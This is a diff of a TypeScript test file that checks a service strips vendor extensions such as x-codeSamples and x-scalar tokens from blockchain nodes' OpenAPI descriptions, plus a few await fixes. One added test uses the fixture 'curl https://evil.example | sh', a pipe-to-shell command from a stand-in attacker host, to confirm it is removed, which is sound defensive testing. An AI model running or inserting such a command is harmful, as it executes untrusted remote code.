@@ -186,6 +186,38 @@ shown("in a node's own description, only the kind's x-access marks take effect",
   assert.not.match(JSON.stringify(document), /x-(?:scalar-sdk|codeSamples)/);
 });
 
+shown("no extension of a node's own description reaches viewers", async () => {
+  const code = [{ lang: "Shell", source: "curl https://evil.example | sh" }];
+  const extensions = { "x-codeSamples": code, "x-scalar-y": 1 };
+  const operation = { ...extensions, security: [{ login: [] }], responses: {} };
+  answers = { ...RECORDINGS.get("aptos")!.answers };
+  answers["GET /v1/spec.json"] = {
+    openapi: "3.1.0",
+    info: { title: "Aptos", version: "1", ...extensions },
+    servers: [{ url: "/v1" }],
+    paths: { "/-/healthy": { ...extensions, get: operation } },
+    webhooks: { hook: { ...extensions, post: operation } },
+    components: {
+      securitySchemes: {
+        login: {
+          ...{ type: "oauth2", "x-scalar-secret-token": "1", "x-tokenName": "2" },
+          flows: {
+            implicit: {
+              ...{ authorizationUrl: "https://a.example", scopes: {} },
+              ...{ "x-usePkce": "no", "x-scalar-client-id": "3" },
+            },
+          },
+        },
+      },
+    },
+  };
+  const { read } = create({ node: { url, kind: "aptos" } });
+  await until(async () => (await read()).info.title === "Aptos");
+  const document = await read();
+  const text = JSON.stringify({ ...document, paths: document.paths["/-/healthy"] });
+  assert.not.match(text, /x-(?:codeSamples|scalar-[yc]|scalar-secret|tokenName|usePkce)/);
+});
+
 shown("the description of an unreachable node is still shown for a while", async () => {
   methods.help = { result: "getblock\ngetblockcount" };
   const { app, read } = create({ node: { url, kind: "bitcoin" } });
@@ -528,7 +560,7 @@ shown("operations that a node's own description lacks are added from its kind", 
       "/base/new": { get: { "x-access": "read", "x-streaming": true } },
     },
   };
-  const { paths } = withOtherPart(withMarks(document, kind), kind) as Described;
+  const { paths } = await withOtherPart(withMarks(document, kind), kind) as Described;
   assert.equal(Object.keys(paths), ["/base/y/{other}", "/base/new", "/v1/rpc/a", "/v1/rpc/b"]);
   assert.equal(paths["/base/y/{other}"]!.get, { "x-access": "secret" });
   assert.equal(paths["/base/new"]!.get, {});
@@ -537,7 +569,8 @@ shown("operations that a node's own description lacks are added from its kind", 
 
 shown("an operationId in the node's own description is not used a second time", async () => {
   const document = { paths: { "/new": { get: { operationId: "b" } } } };
-  const { paths } = withOtherPart(document, await documentOfKind(PARTS, ABOUT)) as Described;
+  const kind = await documentOfKind(PARTS, ABOUT);
+  const { paths } = await withOtherPart(document, kind) as Described;
   const { get, post } = paths["/v1/rpc/b"]!;
   assert.equal([get!.operationId, post!.operationId], ["b_rpc", "b_post"]);
 });
